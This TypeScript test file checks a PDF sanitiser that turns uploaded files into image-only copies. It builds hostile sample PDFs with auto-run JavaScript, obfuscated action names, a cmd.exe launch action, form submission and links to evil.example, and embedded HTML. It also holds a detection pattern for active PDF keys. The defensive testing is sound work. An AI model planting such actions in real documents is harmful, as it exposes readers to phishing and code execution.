import { deflateSync } from "node:zlib";
import { expect, test } from "vitest";
import { createHarmlessCopy } from "#main/harmless-copy.ts";
import { renderPdf } from "#platform/pdf/render-pdf.ts";
import { writePdf } from "#platform/pdf/write-pdf.ts";

const copyHarmless = createHarmlessCopy();
const LIMITS = { maxPages: 40, maxBytes: 8_000_000, timeoutMs: 20_000, memoryBytes: 1_024 ** 3 };

/** Objects by number, from one: catalog, pages, page, drawing, and what is given. */
function pdfOf({
  catalog = "",
  page = "",
  more = [],
}: {
  catalog?: string;
  page?: string;
  more?: readonly string[];
}): Buffer {
  const drawing = "BT /F1 24 Tf 72 700 Td (Lon 38765) Tj ET";
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    "<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> ${page} >>`,
    `<< /Length ${drawing.length} >>\nstream\n${drawing}\nendstream`,
    ...more,
  ];
  let text = "%PDF-1.5\n";
  const offsets = objects.map((object, at) => {
    const offset = text.length;
    text += `${at + 1} 0 obj\n${object}\nendobj\n`;
    return offset;
  });
  const table = text.length;
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((offset) => `${String(offset).padStart(10, "0")} 00000 n \n`).join("")}`;
  return Buffer.from(
    `${text}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${table}\n%%EOF\n`,
    "latin1",
  );
}

const streamOf = (dictionary: string, content: string): string =>
  `<< ${dictionary} /Length ${content.length} >>\nstream\n${content}\nendstream`;

/** Everything but the pages is in a compressed object stream, as banks' programs write it: the catalog with what opens too. */
function withObjectStream(catalog: string): Buffer {
  const inside = [
    [1, `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`],
    [2, "<< /Type /Pages /Count 1 /Kids [3 0 R] >>"],
    [3, "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << >> >>"],
  ] as const;
  let body = "";
  const index = inside.map(([number, object]) => {
    const entry = `${number} ${body.length}`;
    body += `${object} `;
    return entry;
  });
  const first = `${index.join(" ")} `;
  const packed = deflateSync(first + body).toString("latin1");
  let text = "%PDF-1.5\n";
  const at = (object: string): number => {
    const offset = text.length;
    text += `${object}\n`;
    return offset;
  };
  const drawing = at(`4 0 obj\n${streamOf("", "0 0 m 100 100 l S")}\nendobj`);
  const stream = at(
    `5 0 obj\n${streamOf(`/Type /ObjStm /N ${inside.length} /First ${first.length} /Filter /FlateDecode`, packed)}\nendobj`,
  );
  const xref = text.length;
  const row = (kind: number, a: number, b: number): string =>
    String.fromCharCode(kind, (a >> 16) & 255, (a >> 8) & 255, a & 255, b);
  const rows = [
    row(0, 0, 255),
    row(2, 5, 0),
    row(2, 5, 1),
    row(2, 5, 2),
    row(1, drawing, 0),
    row(1, stream, 0),
    row(1, xref, 0),
  ];
  at(`6 0 obj\n${streamOf("/Type /XRef /Size 7 /W [1 3 1] /Root 1 0 R", rows.join(""))}\nendobj`);
  return Buffer.from(`${text}startxref\n${xref}\n%%EOF\n`, "latin1");
}

const link = (action: string): string =>
  `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << ${action} >> >>]`;
const HTML = "<html><script>alert(1)</script></html>";

const HOSTILE: Readonly<Record<string, Buffer>> = {
  "JavaScript when it opens": pdfOf({ catalog: "/OpenAction << /S /JavaScript /JS (app.alert(1)) >>" }),
  "JavaScript with letters as codes": pdfOf({ catalog: "/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>" }),
  "an action of the page": pdfOf({ page: "/AA << /O << /S /JavaScript /JS (app.alert(1)) >> >>" }),
  "a program that is started": pdfOf({ page: link("/S /Launch /F (cmd.exe)") }),
  "another file that is opened": pdfOf({ page: link("/S /GoToR /F (\\\\\\\\evil\\\\share\\\\x.pdf) /D [0 /Fit]") }),
  "an embedded file that is opened": pdfOf({ page: link("/S /GoToE /T << /R /C /N (x) >>") }),
  "data that is imported": pdfOf({ page: link("/S /ImportData /F (x.fdf)") }),
  "a form that is sent": pdfOf({ page: link("/S /SubmitForm /F (https://evil.example/)") }),
  "a rendition": pdfOf({ page: link("/S /Rendition /OP 0 /JS (app.alert(1))") }),
  "a movie": pdfOf({
    page: "/Annots [<< /Subtype /Movie /Rect [0 0 9 9] /Movie << /F (https://evil.example/x.avi) >> >>]",
  }),
  "a link": pdfOf({ page: link("/S /URI /URI (https://evil.example/login)") }),
  "a form in XML": pdfOf({
    catalog: "/AcroForm << /Fields [] /XFA 5 0 R >>",
    more: [streamOf("", "<xdp><script>1</script></xdp>")],
  }),
  "an attached page": pdfOf({
    catalog: "/Names << /EmbeddedFiles << /Names [(x.html) 5 0 R] >> >>",
    more: ["<< /Type /Filespec /F (x.html) /EF << /F 6 0 R >> >>", streamOf("/Type /EmbeddedFile", HTML)],
  }),
  "an attachment by /EF alone": pdfOf({
    catalog: "/AF [5 0 R]",
    more: ["<< /F (x.html) /EF << /F 6 0 R >> >>", streamOf("", HTML)],
  }),
  "an archive after the end": Buffer.concat([pdfOf({}), Buffer.from("PKevil\n%%EOF\n", "latin1")]),
  "an action in an object stream": withObjectStream("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
};

/** Names of what acts, holds or leads on, and what the samples have in them. */
const ACTIVE =
  /\/(?:JavaScript|JS|J#|S\s*\/|Launch|OpenAction|AA|A\s*<<|GoTo|ImportData|SubmitForm|Rendition|Movie|URI|XFA|AcroForm|EF|EmbeddedFile|Filespec|AF|Names|Annots|ObjStm|XRef|Font|Encrypt)|evil|alert|script|PK/;

test.each(Object.entries(HOSTILE))("%s is not in the copy, whose page is an image", async (_what, content) => {
  const copy = await copyHarmless({ contentType: "application/pdf", content });
  const bytes = Buffer.from(copy?.content ?? []);
  // Without the pictures' own bytes, in which any two letters may stand.
  const text = bytes
    .toString("latin1")
    .replaceAll(/(\/DCTDecode[^\n]*\nstream\n)[\s\S]*?(\nendstream\nendobj\n)/g, "$1$2");
  expect(text).toContain("/DCTDecode");
  expect(text).not.toMatch(ACTIVE);
  expect(text.match(/\/Type \/Page /g)).toHaveLength(1);
  // Who opens the copy sees a page of the same form.
  expect((await renderPdf(bytes, LIMITS))?.map(({ height }) => height)).toEqual([1_600]);
});

test("the copy shows what the file shows, page by page", async () => {
  const content = writePdf({
    title: "Lön",
    paragraphs: Array.from({ length: 60 }, (_, at) => ({ text: `Rad ${at}` })),
  });
  const before = await renderPdf(content, LIMITS);
  expect(before?.length).toBeGreaterThan(1);
  const copy = await copyHarmless({ contentType: "application/pdf", content });
  const after = await renderPdf(copy?.content ?? new Uint8Array(), LIMITS);
  expect(after?.length).toBe(before?.length);
  // White paper and little ink: pictures of nothing would be much smaller.
  for (const [at, page] of (after ?? []).entries())
    expect(page.jpeg.length).toBeGreaterThan((before?.[at]?.jpeg.length ?? 0) / 2);
});

test.each([
  ["is no PDF", Buffer.from("%PDF-1.7\nlön\n%%EOF\n")],
  ["is empty", Buffer.alloc(0)],
  [
    "has more pages than a lender needs",
    writePdf({ title: "", paragraphs: Array.from({ length: 1_300 }, () => ({ text: "rad" })) }),
  ],
])("a file that %s has no copy", async (_what, content) => {
  expect(await copyHarmless({ contentType: "application/pdf", content })).toBeUndefined();
});

test("a file that is made to cost too much is given up", async () => {
  const content = pdfOf({ page: "/Annots []" });
  expect(await renderPdf(content, { ...LIMITS, timeoutMs: 1 })).toBeUndefined();
  expect(await renderPdf(content, { ...LIMITS, maxBytes: 1_000 })).toBeUndefined();
  expect(await renderPdf(content, { ...LIMITS, memoryBytes: 1_000_000 })).toBeUndefined();
});

test("a photo is not changed", async () => {
  const photo = { contentType: "image/jpeg", content: Uint8Array.of(0xff, 0xd8, 0xff, 0xd9) };
  expect(await copyHarmless(photo)).toBe(photo);
});
